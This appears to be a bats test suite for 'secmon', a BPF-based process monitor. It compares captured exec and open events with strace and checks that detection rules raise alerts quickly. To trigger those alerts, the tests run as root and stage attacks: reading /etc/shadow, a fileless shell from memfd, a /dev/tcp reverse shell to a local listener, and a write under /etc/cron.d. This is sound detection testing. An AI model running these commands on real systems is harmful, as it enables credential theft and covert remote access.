# SPDX-License-Identifier: BSD-2-Clause
# runs: alone
# All four programs, live: what was done is what is said, and nothing else.
load lib

setup()
{
	need bpf
}

# a small project: two "compiled" parts and what they make
project()
{
	mkdir -p "$T/project"
	printf '%s\n' one >"$T/project/one.in"
	printf '%s\n' two >"$T/project/two.in"
	cat >"$T/project/Makefile" <<-'EOF'
	.RECIPEPREFIX = >
	all: both
	%.out: %.in
	> tr a-z A-Z < $< > $@
	both: one.out two.out
	> cat one.out two.out > both
	> sh -c 'wc -l both; nosuchprogram || true'
	EOF
}

# the events of CMD and its children as JSON lines, by secmon's own printer
watch()
{
	"$capture" -- "$@" | "$enrich" | "$ship" -s json:- --events
}

@test "every exec of a build is seen, as many as strace counts, those that fail too" {
	need cmd strace
	project
	strace -f -qq -e trace=execve -o "$T/strace" make -C "$T/project" >/dev/null 2>&1
	rm -f "$T"/project/*.out "$T/project/both"
	watch "$(command -v make)" -C "$T/project" >"$T/json" 2>"$T/said" </dev/null
	worked=$(jq -s 'map(select(.["evt.type"] == "execve" and .["evt.rawres"] == 0)) | length' "$T/json")
	failed=$(jq -s 'map(select(.["evt.type"] == "execve" and .["evt.rawres"] < 0)) | length' "$T/json")
	[ "$worked" -eq "$(grep -c 'execve(.* = 0$' "$T/strace")" ]
	[ "$failed" -eq "$(grep -c 'execve(.* = -1 ' "$T/strace")" ]
	[ "$worked" -gt 3 ]
}

@test "every open of a build is seen, the same files that strace names" {
	need cmd strace
	project
	strace -f -y -qq -e trace=open,openat,creat -o "$T/strace" make -C "$T/project" >/dev/null 2>&1
	sed -nE 's/.* = [0-9]+<(.*)>$/\1/p' "$T/strace" | sort | uniq -c >"$T/theirs"
	rm -f "$T"/project/*.out "$T/project/both"
	watch "$(command -v make)" -C "$T/project" >"$T/json" 2>"$T/said" </dev/null
	jq -r 'select(.["evt.type"] // "" | test("^(open|creat)")) | select(.["evt.rawres"] >= 0) | .["fd.name"]' \
		"$T/json" | sort | uniq -c >"$T/ours"
	[ "$(wc -l <"$T/ours")" -gt 10 ]
	diff "$T/theirs" "$T/ours"
}

@test "nothing of any other process is seen" {
	: >"$T/outsider"
	while :; do cat "$T/outsider"; done &
	outsider=$!
	project
	watch "$(command -v make)" -C "$T/project" >"$T/json" 2>"$T/said" </dev/null
	kill $outsider
	wait $outsider 2>/dev/null || true
	[ -s "$T/json" ]
	! grep -q outsider "$T/json"
	# everyone is a child of someone who is in the tree, but for its root
	"$PYTHON" - "$T/json" <<-'EOF'
	import json, sys
	events = [e for e in map(json.loads, open(sys.argv[1])) if "proc.pid" in e]
	seen = {e["proc.pid"] for e in events}
	roots = {(e["proc.pid"]) for e in events if e["proc.ppid"] not in seen}
	assert len(roots) == 1, roots
	EOF
}

# alerts_of: the pipeline with the shipped rules on the tree of $T/attack
alerts_of()
{
	"$capture" -- bash "$T/attack" | "$enrich" | "$match" -r "$REPO/rules" |
		"$ship" -s json:"$T/alerts"
}

# attack COMMAND TEXT: do it, and wait at most a second until an alert has TEXT. It
# runs inside the pipeline it waits for: the time is that of the whole chain.
attack()
{
	cat >"$T/attack" <<-EOF
	touch "$T/alerts"
	wait_for_alert() {
		start=\${EPOCHREALTIME/./}
		until grep -q "\$1" "$T/alerts"; do
			[ \$((\${EPOCHREALTIME/./} - start)) -lt 10000000 ] || break
			read -rt 0.01 <> <(:) || :
		done
		echo \$((\${EPOCHREALTIME/./} - start)) >"$T/took_us"
	}
	$1
	wait_for_alert "$2"
	EOF
	alerts_of 2>"$T/said"
	head -c 3000 "$T/alerts"
	took=$(cat "$T/took_us")
	echo "alert after $took us"
	[ "$took" -lt 1000000 ]
}

# field NAME TEXT: the alert has that output field
field()
{
	jq -es --arg name "$1" --arg value "$2" \
		'any(.[]; .output_fields[$name] | tostring | test($value))' "$T/alerts" >/dev/null || {
		echo "no alert with $1 = $2" >&2
		return 1
	}
}

@test "cat /etc/shadow gives its alert within a second, with process, parent, user and path" {
	need root
	attack "cat /etc/shadow >/dev/null" /etc/shadow
	field fd.name '^/etc/shadow$'
	field proc.exepath '/cat$'
	field proc.pname '^bash$'
	field user.name '^root$'
}

@test "a shell in a memfd gives its alert within a second, with process, parent and user" {
	need root
	cat >"$T/memfd.py" <<-'EOF'
	import os, shutil
	fd = os.memfd_create("x", 0)
	with open("/bin/dash", "rb") as f, os.fdopen(os.dup(fd), "wb") as to:
	    shutil.copyfileobj(f, to)
	os.execve("/proc/self/fd/%d" % fd, ["sh", "-c", "true"], {})
	EOF
	attack "$PYTHON '$T/memfd.py'" memfd
	field proc.exepath memfd
	field proc.pexepath '/bash$'
	field user.name '^root$'
}

@test "a shell whose input and output are a connection gives its alert within a second" {
	need root
	cat >"$T/server.py" <<-'EOF'
	import os, socket, sys
	s = socket.create_server(("127.0.0.1", 0))
	with open(sys.argv[1] + ".new", "w") as f:
	    print(s.getsockname()[1], file=f)
	os.rename(sys.argv[1] + ".new", sys.argv[1])
	s.accept()[0].sendall(b"exit\n")
	EOF
	"$PYTHON" "$T/server.py" "$T/port" &
	wait_for "[ -e '$T/port' ]"
	port=$(cat "$T/port")
	attack "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$port && exec bash <&3 >&3 2>&3'" "127.0.0.1:$port"
	field fd.name "->127.0.0.1:$port\$"
	field proc.exepath '/bash$'
	field proc.pname '^bash$'
	field user.name '^root$'
}

@test "a write under /etc/cron.d gives its alert within a second, with process, parent, user and path" {
	need root
	[ -d /etc/cron.d ] || skip "needs /etc/cron.d"
	file=/etc/cron.d/secmon-test-$$
	attack "echo '# a test of secmon' >$file; rm -f $file" secmon-test
	rm -f "$file"
	field fd.name "^$file\$"
	field proc.exepath '/bash$'
	field proc.pname '^secmon-capture$'
	field user.name '^root$'
}

@test "make run watches, alerts, and ends on Ctrl-C with a summary of each stage" {
	need root
	printf 'cat /etc/shadow >/dev/null\nuntil [ -e "%s" ]; do read -rt 0.05 <> <(:) || :; done\n' \
		"$T/stop" >"$T/work"
	# the foreground of a terminal gets the signal: a process group of its own here
	CAPTURE="-- bash $T/work" BIN=$BIN setsid "$REPO/contrib/run" >"$T/out" 2>"$T/said" &
	run=$!
	wait_for "grep -q /etc/shadow '$T/out'" 10
	kill -INT -- "-$(ps -o pgid= -p $run | tr -d ' ')"
	: >"$T/stop"
	wait_for "! kill -0 $run" 15
	s=0; wait $run || s=$?
	cat "$T/said"
	[ "$s" -eq 0 ]
	for stage in capture enrich match ship; do
		grep -q "$stage" "$T/said"
	done
}
